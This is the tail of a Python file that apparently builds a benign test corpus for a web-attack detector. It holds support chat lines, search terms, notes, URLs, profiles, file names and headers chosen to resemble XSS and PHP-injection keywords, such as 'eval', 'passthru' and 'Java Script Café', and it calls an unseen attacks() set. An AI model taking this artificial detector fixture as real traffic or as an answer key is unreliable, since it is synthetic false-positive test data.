    "preg_replace with the e modifier was removed in PHP 7, the old template parser needs a rewrite",
    "we serialize the job payload as JSON, not with PHP serialize, so the Python worker can read it",
    "the phar archive for the CLI tool is signed now",
    "php://stdin is how the importer reads the CSV in the CLI version",
    # ordinary users and support
    "the weather in Paris was wrong yesterday, it said sunny but it rained all day",
    "how do I change my location to Zürich? the bot keeps saying Zurich",
    "I can't log in on the new Safari, the page just reloads",
    "can the weather alerts come in the morning instead of at night?",
    "my bio shows weird characters after I added an emoji 😊",
    "Jeeves remembered the wrong location, I typed Springfield and it chose the one in Illinois",
    "is there a dark mode for the settings page?",
    "the script I use to export my data stopped working after the update, any changes to the API?",
    "the iframe on our intranet shows a blank box since Monday",
    "my name has an apostrophe, O'Connor, and the form cuts it off",
    "reading the release notes: template improvements and a new alerts page, nice",
    "the print button on the forecast page doesn't work in Edge",
    "our security team asks whether you have a bug bounty program, who should they contact?",
    "we'd like to embed the forecast in our PHP intranet, is there an API key for that?",
    "the Angular course starts next Monday, room 4B",
    "the Vue meetup is on Thursday, pizza included",
    "my location is Script Road 7, Bristol, but the bot can't find it",
    "Svetlana from accounting asked for a CSV export of the alerts",
    "is the mobile app using the same login as the Slack bot?",
    "I got an alert email with an empty body, just the subject line",
]
SEARCHES = [
    "script", "scripts", "javascript", "java script", "alert", "alerts", "weather alert", "onload", "onclick",
    "iframe", "embed", "svg", "mathml", "style", "css", "expression", "template", "angular", "vue", "react",
    "document", "cookie", "cookies", "print", "prompt", "confirm", "eval", "eval report", "marquee", "meta",
    "base", "link", "form", "object", "applet", "vbscript", "data", "import", "encoding", "entity", "utf-7",
    "php", "php 8", "phpinfo", "system", "exec", "shell", "passthru", "popen", "assert", "include", "require",
    "wrapper", "filter", "input", "expect", "phar", "zip", "glob", "serialize", "unserialize", "session",
    "globals", "server", "request", "upload", "htaccess", "user.ini", "config", "display errors", "error log",
    "Alert Street", "Script Lane", "Java Road", "O'Connor", "Ana María", "Zoë", "São Paulo", "Zürich",
    "Phar Lap", "Expect More Ltd", "Globe Theatre", "Embed Media", "Base Camp", "Vue Cinema", "Angular Ventures",
]
PROSE = [
    "Customer reported that the alert emails arrive twice; the scheduler was retrying after a timeout.",
    "The security review of the profile page found no XSS after the switch to textContent.",
    "Bug bounty triage: the reported script injection in the bio field was fixed in release 4.12.",
    "The PHP billing service will be retired once the invoices move to the new platform.",
    "User asked how to change the location; told them to use the remember location command.",
    "The upload of a .phtml file was rejected as expected; the user meant to upload a screenshot.",
    "Support note: the customer's intranet embeds the forecast in an iframe, the X-Frame-Options header blocks it.",
    "The legacy session handling uses $_SESSION with a 24 minute lifetime; we will extend it to 8 hours.",
    "Follow-up: the CSP report-only header showed inline event handlers on two legacy pages.",
    "Release 4.13: new alerts page, template fixes, faster search, PHP 8.3 on the billing service.",
    "Customer asked whether we use cookies for tracking. Only the session cookie, HttpOnly and Secure.",
    "The meta description on the landing page was updated for the spring campaign.",
    "The Angular admin will be switched off on 1 June; all users are on the new React admin.",
    "Escalation: the weather widget shows a blank iframe on Internet Explorer, which we no longer support.",
    "The phar build of the CLI tool was published to the internal package registry.",
    "The data import script failed on line 42 because of an unescaped quote in a city name.",
    "Reminder for the on-call: phpinfo and server-status pages must never be exposed publicly.",
    "The marketing site runs WordPress; plugin updates are done by the agency every Tuesday.",
    "Customer used the print view of the forecast; the SVG chart was cut at the page break.",
    "The template for the weekly digest greets users by first name and lists their alerts.",
    "Unserialize was removed from the cart code; cookies hold a signed JSON document now.",
    "Vue 3 migration of the status page is complete; Vue 2 reached end of life.",
    "The base URL of the API stays the same; only the version header changes.",
    "Allow URL include stays disabled on all PHP hosts, checked by the config audit.",
    "Display errors is off in production; errors go to the log collector.",
]
URLS = [
    "https://owasp.org/www-community/attacks/xss/",
    "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/iframe#srcdoc",
    "https://developer.mozilla.org/en-US/docs/Web/API/Element/innerHTML#security_considerations",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Template_literals",
    "https://developer.mozilla.org/en-US/docs/Web/HTTP/Headers/Content-Security-Policy/script-src",
    "https://developer.mozilla.org/en-US/docs/Web/SVG/Element/animate",
    "https://angular.io/guide/security#xss",
    "https://vuejs.org/guide/best-practices/security.html",
    "https://github.com/cure53/DOMPurify/releases/tag/3.1.6",
    "https://www.php.net/manual/en/function.unserialize.php",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/ini.core.php#ini.auto-prepend-file",
    "https://www.php.net/manual/en/function.system.php",
    "https://www.php.net/manual/en/language.variables.superglobals.php",
    "https://www.php.net/manual/en/features.file-upload.php",
    "https://www.php.net/releases/8.3/en.php",
    "https://nvd.nist.gov/vuln/detail/CVE-2024-4577",
    "https://wordpress.org/news/2024/04/wordpress-6-5-2-maintenance-and-security-release/",
]
PROFILES = [
    ("Alert Nguyen", "14 Harbour Street, Sydney"),
    ("Scott Script", "9 Mill Lane, Leeds"),
    ("Svetlana Vue", "Nevsky Prospekt 20, Saint Petersburg"),
    ("Angela Angular", "Via Roma 3, Torino"),
    ("Phil Php", "22 Elm Road, Cambridge"),
    ("Eval Johansson", "Storgatan 5, Uppsala"),
    ("Ana María Sistema", "Calle Mayor 12, Madrid"),
    ("Globe Theatre Ltd", "21 New Globe Walk, London"),
    ("Phar Lap Stables", "Flemington Rd 1, Melbourne"),
    ("Base Camp Outfitters", "Main St 100, Boulder"),
    ("Embed Media GmbH", "Friedrichstraße 44, Berlin"),
    ("Frame & Object Gallery", "Rue de Rivoli 99, Paris"),
    ("Marquee Events", "Broadway 1501, New York"),
    ("Siobhán O'Connor", "Grafton Street 7, Dublin"),
    ("Zoë Include", "Keizersgracht 101, Amsterdam"),
    ("Java Script Café", "Kaffeegasse 3, Wien"),
    ("Session Musicians Co", "Abbey Road 3, London"),
    ("Filter House Coffee", "Bay Street 8, Toronto"),
    ("Template Studio", "Rua Augusta 50, Lisboa"),
    ("Style & Expression Salon", "Bahnhofstrasse 12, Zürich"),
]
UPLOAD_NAMES = [
    "avatar.png", "profile photo.jpg", "invoice_2024_05.pdf", "alerts-export.csv", "team.jpeg", "logo.svg",
    "php-migration-plan.pdf", "xss-review-notes.docx", "script-for-video.txt", "angular-to-react.pptx",
    "vue-meetup-flyer.png", "style guide v2.pdf", "template (final).docx", "session-notes.md",
    "upload-test.png", "config-diagram.png", "include-list.xlsx", "phpstan-baseline.txt", "iframe-mockup.png",
    "svg-icons.zip", "print-layout.pdf", "screenshot 2024-06-03 at 09.14.55.png", "Zoë résumé.pdf",
    "weather-alert-poster.jpg", "base-camp-map.pdf",
]
BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/125.0.0.0 Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Mobile/15E148 Safari/604.1"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Trident/7.0; rv:11.0) like Gecko"),
    ("User-Agent", "GuzzleHttp/7"),
    ("User-Agent", "WordPress/6.5.3; https://blog.example.com"),
    ("User-Agent", "PHP/8.3.7"),
    ("User-Agent", "Symfony HttpClient/Curl"),
    ("User-Agent", "curl/8.7.1"),
    ("User-Agent", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)"),
    ("Referer", "https://app.example.com/admin/users?page=3&sort=name"),
    ("Referer", "https://www.google.com/search?q=javascript+alert+vs+toast"),
    ("Referer", "https://www.php.net/manual/en/function.unserialize.php"),
    ("Referer", "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/iframe"),
    ("Referer", "https://intranet.example.com/index.php?page=weather"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Requested-With", "XMLHttpRequest"),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
    ("Accept-Language", "de-CH,de;q=0.9,fr;q=0.8,en;q=0.7"),
    ("Cookie", "session=abc123; theme=dark; last_search=script%20lane"),
    ("Cookie", "session=abc123; PHPSESSID=9s8d7f6g5h4j3k2l1q0w; lang=en"),
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(CHAT, NAME)
    n = yield from SET.searches(SEARCHES, NAME, n)
    n = yield from links_and_prose(URLS, PROSE, NAME, n)
    n = yield from numbered((request("POST", "/api/users",
                                     json.dumps({"name": who, "address": where, "email": "user@example.org"},
                                                ensure_ascii=False), "application/json")
                             for who, where in PROFILES), f"{NAME}-profile", n, "json")
    n = yield from SET.uploads(UPLOAD_NAMES, NAME, n)
    yield from SET.headers(BENIGN_HEADERS, NAME, n)


if __name__ == "__main__":
    print_records(attacks(), benign())
